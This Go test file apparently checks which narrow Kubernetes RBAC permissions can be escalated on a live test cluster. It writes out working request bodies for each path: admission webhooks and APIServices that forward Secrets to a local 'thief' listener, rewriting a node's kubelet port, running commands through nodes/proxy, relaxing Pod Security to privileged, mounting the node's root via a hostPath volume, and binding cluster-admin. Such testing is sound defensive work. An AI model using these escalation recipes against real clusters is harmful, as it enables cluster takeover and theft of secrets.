package live_test

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/pem"
	"errors"
	"fmt"
	"net/http"
	"strings"

	rbacv1 "k8s.io/api/rbac/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/rest"
)

var getting = metav1.GetOptions{}

// certificateKeys are the keys of the requested certificates, by the request's name.
var certificateKeys = map[string][]byte{}

// requestCertificate asks for a certificate of a user, under the name of the holder.
func (s *stage) requestCertificate(user string) {
	s.t.Helper()
	key := must[*ecdsa.PrivateKey](s.t)(ecdsa.GenerateKey(elliptic.P256(), rand.Reader))
	certificateKeys[s.holder] = pem.EncodeToMemory(&pem.Block{Type: "EC PRIVATE KEY", Bytes: must[[]byte](s.t)(x509.MarshalECPrivateKey(key))})
	request := must[[]byte](s.t)(x509.CreateCertificateRequest(rand.Reader, &x509.CertificateRequest{Subject: pkix.Name{CommonName: user}}, key))
	encoded := base64.StdEncoding.EncodeToString(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE REQUEST", Bytes: request}))
	s.admin(call{"POST", "/apis/certificates.k8s.io/v1/certificatesigningrequests",
		`{"metadata":{"name":"HOLDER"},"spec":{"request":"` + encoded + `","signerName":"kubernetes.io/kube-apiserver-client","usages":["client auth"]}}`, nil})
}

// certificateIs: the certificate that was requested is there, and who has it is the user.
func (s *stage) certificateIs(user string) error {
	request, err := s.client.CertificatesV1().CertificateSigningRequests().Get(s.t.Context(), s.holder, getting)
	if err != nil {
		return err
	}
	if len(request.Status.Certificate) == 0 {
		return errors.New("nothing is signed")
	}
	return s.becomes(s.withCertificate(request.Status.Certificate), user)
}

func (s *stage) withCertificate(certificate []byte) *rest.Config {
	config := s.cluster.Config()
	config.CertData, config.KeyData = certificate, certificateKeys[s.holder]
	return config
}

func nodeWalks() (walks []walk) {
	// The tests have no node but this machine, and the API server's proxy takes no loopback
	// address: the answer says that it was on its way.
	onItsWay := answers("address not allowed")
	run := core + "/nodes/node-1/proxy/run/shop/any/main?cmd=id"
	walks = append(walks,
		walk{access: "nodes-proxy", name: "create", rules: rules(may("create", "", "nodes/proxy")), step: steps("POST", run, ""), gained: onItsWay},
		walk{access: "nodes-proxy", name: "get", rules: rules(may("get", "", "nodes/proxy")), step: steps("GET", run, ""), gained: onItsWay})
	for _, verb := range []string{"patch", "update"} {
		walks = append(walks, walk{
			access: "write-node-status", name: verb, rules: rules(may(verb, "", "nodes/status")), prepare: prepares(running("HOLDER")),
			step: func(s *stage) call {
				path := core + "/nodes/node-1/status"
				from, to := fmt.Sprintf(`"Port":%d`, s.kubelet.port()), fmt.Sprintf(`"Port":%d`, s.thief.port())
				return edits(verb, path, nodeStatus(s.thief), from, to)(s)
			},
			gained: func(s *stage, _ string) error {
				// What an administrator asks of the pod goes to the thief.
				s.do(s.cluster.Config(), call{"GET", shopPath + "/pods/HOLDER/log", "", nil})
				err := s.thief.was("/containerLogs/shop/" + s.holder + "/main")
				if err == nil {
					s.nodeIs(s.kubelet)
				}
				return err
			},
		})
	}
	return walks
}

// webhook is a configuration that sends each new Secret of the namespace bait to the thief.
func (s *stage) webhook(port int) string {
	return fmt.Sprintf(`{"metadata":{"name":"HOLDER"},"webhooks":[{"name":"a.b.example","clientConfig":{"url":"https://127.0.0.1:%d/HOLDER","caBundle":%s},`+
		`"failurePolicy":"Ignore","sideEffects":"None","admissionReviewVersions":["v1"],"timeoutSeconds":2,"namespaceSelector":{"matchLabels":{"name":"bait"}},`+
		`"rules":[{"apiGroups":[""],"apiVersions":["v1"],"resources":["secrets"],"operations":["CREATE"]}]}]}`, port, s.thief.bundle())
}

func admissionWalks() (walks []walk) {
	const api = "/apis/admissionregistration.k8s.io/v1"
	const group = "admissionregistration.k8s.io"
	seen := func(s *stage, _ string) error {
		s.do(s.cluster.Config(), call{"POST", core + "/namespaces/bait/secrets?dryRun=All", `{"metadata":{"name":"HOLDER"},"stringData":{"password":"hunter2"}}`, nil})
		return s.thief.was("/"+s.holder+"?", "aHVudGVyMg==")
	}
	for _, kind := range []string{"mutatingwebhookconfigurations", "validatingwebhookconfigurations"} {
		for _, verb := range []string{"create", "patch", "update"} {
			w := walk{access: "write-webhooks", name: verb + " " + kind, rules: rules(may(verb, group, kind)), gained: seen}
			if verb == "create" {
				w.step = func(s *stage) call { return call{"POST", api + "/" + kind, s.webhook(s.thief.port()), nil} }
			} else {
				w.prepare = func(s *stage) { s.admin(call{"POST", api + "/" + kind, s.webhook(1), nil}) }
				w.step = func(s *stage) call {
					whole := strings.Replace(s.webhook(s.thief.port()), `{"metadata":{"name":"HOLDER"},`, "{", 1)
					return edits(verb, api+"/"+kind+"/HOLDER", whole, "127.0.0.1:1/", fmt.Sprintf("127.0.0.1:%d/", s.thief.port()))(s)
				}
			}
			walks = append(walks, w)
		}
	}
	return append(walks, policyWalks(api, group)...)
}

func policyWalks(api, group string) []walk {
	policy := func(value string) string {
		return `{"metadata":{"name":"HOLDER"},"spec":{"reinvocationPolicy":"Never","failurePolicy":"Ignore",` +
			`"matchConstraints":{"resourceRules":[{"apiGroups":[""],"apiVersions":["v1"],"resources":["configmaps"],"operations":["CREATE"]}]},` +
			`"mutations":[{"patchType":"ApplyConfiguration","applyConfiguration":{"expression":"Object{metadata: Object.metadata{labels: {'HOLDER': '` + value + `'}}}"}}]}}`
	}
	bound := `{"metadata":{"name":"HOLDER"},"spec":{"policyName":"HOLDER","matchResources":{"namespaceSelector":{"matchLabels":{"name":"bait"}}}}}`
	policies, bindings := api+"/mutatingadmissionpolicies", api+"/mutatingadmissionpolicybindings"
	mutated := func(s *stage, _ string) error {
		_, body := s.do(s.cluster.Config(), call{"POST", core + "/namespaces/bait/configmaps?dryRun=All", `{"metadata":{"name":"HOLDER"}}`, nil})
		if !strings.Contains(body, `"`+s.holder+`":"taken"`) {
			return fmt.Errorf("the object is as it was written: %s", body)
		}
		return nil
	}
	walks := []walk{{
		access: "write-mutating-policies", name: "create both", rules: rules(may("create", group, "mutatingadmissionpolicies,mutatingadmissionpolicybindings")),
		step: func(s *stage) call {
			s.do(s.config, call{"POST", policies, policy("taken"), nil}) // the binding decides
			return call{"POST", bindings, bound, nil}
		},
		gained: mutated,
	}}
	for _, verb := range []string{"patch", "update"} {
		walks = append(walks, walk{
			access: "write-mutating-policies", name: verb + " one that is bound", rules: rules(may(verb, group, "mutatingadmissionpolicies")),
			prepare: prepares(call{"POST", policies, policy("nothing"), nil}, call{"POST", bindings, bound, nil}),
			step:    edits(verb, policies+"/HOLDER", policy("taken"), "'nothing'", "'taken'"), gained: mutated,
		})
	}
	return walks
}

func namespaceWalks() (walks []walk) {
	services := "/apis/apiregistration.k8s.io/v1/apiservices"
	for _, verb := range []string{"create", "patch", "update"} {
		object := func(port int) string {
			return fmt.Sprintf(`{"metadata":{"name":"v1.HOLDER.example.com"},"spec":{"group":"HOLDER.example.com","version":"v1","groupPriorityMinimum":1000,"versionPriority":10,`+
				`"insecureSkipTLSVerify":true,"service":{"namespace":"shop","name":"HOLDER","port":%d}}}`, port)
		}
		external := call{"POST", shopPath + "/services", `{"metadata":{"name":"HOLDER"},"spec":{"type":"ExternalName","externalName":"localhost"}}`, nil}
		w := walk{
			access: "write-api-services", name: verb, rules: rules(may(verb, "apiregistration.k8s.io", "apiservices")), prepare: prepares(external),
			step: func(s *stage) call { return call{"POST", services, object(s.thief.port()), nil} },
			gained: func(s *stage, _ string) error {
				s.do(s.cluster.Config(), call{"POST", "/apis/HOLDER.example.com/v1/things", `{"password":"hunter2"}`, nil})
				return s.thief.was("/apis/"+s.holder+".example.com/v1/things admin", "hunter2")
			},
		}
		if verb != "create" {
			w.prepare = func(s *stage) { prepares(external, call{"POST", services, object(s.kubelet.port()), nil})(s) }
			w.step = func(s *stage) call {
				patch := fmt.Sprintf(`{"spec":{"service":{"port":%d}}}`, s.thief.port())
				return edits(verb, services+"/v1.HOLDER.example.com", patch, fmt.Sprintf(`"port":%d`, s.kubelet.port()), fmt.Sprintf(`"port":%d`, s.thief.port()))(s)
			}
		}
		walks = append(walks, w)
	}
	for _, verb := range []string{"patch", "update"} {
		walks = append(walks, walk{
			access: "patch-namespaces", name: verb, rules: rules(may(verb, "", "namespaces")),
			prepare: func(s *stage) {
				s.admin(call{"POST", core + "/namespaces", `{"metadata":{"name":"HOLDER","labels":{"pod-security.kubernetes.io/enforce":"restricted"}}}`, nil})
				if err := s.admitted("HOLDER", `"hostPID":true,`, ""); err == nil {
					s.t.Fatal("Pod Security does not keep a pod with hostPID out")
				}
			},
			step: edits(verb, core+"/namespaces/HOLDER", `{"metadata":{"labels":{"pod-security.kubernetes.io/enforce":"privileged"}}}`,
				`"pod-security.kubernetes.io/enforce":"restricted"`, `"pod-security.kubernetes.io/enforce":"privileged"`),
			gained: func(s *stage, _ string) error { return s.admitted("HOLDER", `"hostPID":true,`, "") },
		})
	}
	return append(walks, walk{
		access: "create-persistent-volumes", name: "a folder of the node", rules: rules(may("create", "", "persistentvolumes")),
		prepare: func(s *stage) {
			if err := s.admitted("strict", "", `{"hostPath":{"path":"/"},"name":"v"}`); err == nil {
				s.t.Fatal("Pod Security does not keep a hostPath out")
			}
			s.admin(call{"POST", core + "/namespaces/strict/persistentvolumeclaims",
				`{"metadata":{"name":"HOLDER"},"spec":{"storageClassName":"","accessModes":["ReadWriteOnce"],"resources":{"requests":{"storage":"1Mi"}}}}`, nil})
		},
		step: steps("POST", core+"/persistentvolumes", `{"metadata":{"name":"HOLDER"},"spec":{"hostPath":{"path":"/"},"capacity":{"storage":"1Mi"},`+
			`"accessModes":["ReadWriteOnce"],"claimRef":{"namespace":"strict","name":"HOLDER"}}}`),
		gained: func(s *stage, answer string) error {
			if err := asks(core+"/namespaces/strict/persistentvolumeclaims/HOLDER", `"phase":"Bound"`)(s, answer); err != nil {
				return err
			}
			return s.admitted("strict", "", `{"persistentVolumeClaim":{"claimName":"HOLDER"},"name":"v"}`)
		},
	})
}

// admitted returns nil when a pod that is restricted, but for what is given, may be made in a
// namespace.
func (s *stage) admitted(namespace, field, volume string) error {
	code, body := s.do(s.cluster.Config(), call{"POST", core + "/namespaces/" + namespace + "/pods?dryRun=All",
		`{"metadata":{"name":"p"},"spec":{` + field + `"automountServiceAccountToken":false,"volumes":[` + volume + `],` +
			`"securityContext":{"runAsNonRoot":true,"seccompProfile":{"type":"RuntimeDefault"}},"containers":[{"name":"c","image":"x",` +
			`"securityContext":{"allowPrivilegeEscalation":false,"capabilities":{"drop":["ALL"]}}}]}}`, nil})
	if code != http.StatusCreated {
		return fmt.Errorf("the pod is answered %d: %s", code, body)
	}
	return nil
}

// actingWalks take in one namespace the ways that act there.
func actingWalks() (walks []walk) {
	const acting = "act-as-powerful-service-account"
	inShop := func(name string, rule ...rbacv1.PolicyRule) walk {
		return walk{access: acting, name: name, namespace: "shop", rules: rule}
	}
	for _, k := range [][]walk{secretWalks(), podWalks(), workloadWalks(), identityWalks()} {
		for _, w := range k {
			switch w.access {
			case "read-secrets", "create-pods", "exec-pods", "attach-pods", "debug-pods", "patch-pods", "create-tokens":
			case "create-workloads", "patch-workloads":
				if !strings.HasSuffix(w.name, "deployments") {
					continue
				}
			case "impersonate":
				if w.name != "any account" {
					continue
				}
			default:
				continue
			}
			local := inShop(w.access+" "+w.name, w.rules...)
			local.prepare, local.step, local.gained = w.prepare, w.step, w.gained
			walks = append(walks, local)
		}
	}
	bind := inShop("bind-roles", rbacRule("bind", "clusterroles", "cluster-admin"), rbacRule("create", "rolebindings"))
	bind.step, bind.gained = steps("POST", rbacAPI+"/namespaces/shop/rolebindings", roleBinding("ClusterRole", "cluster-admin")), mayAnything("shop")
	return append(walks, bind)
}
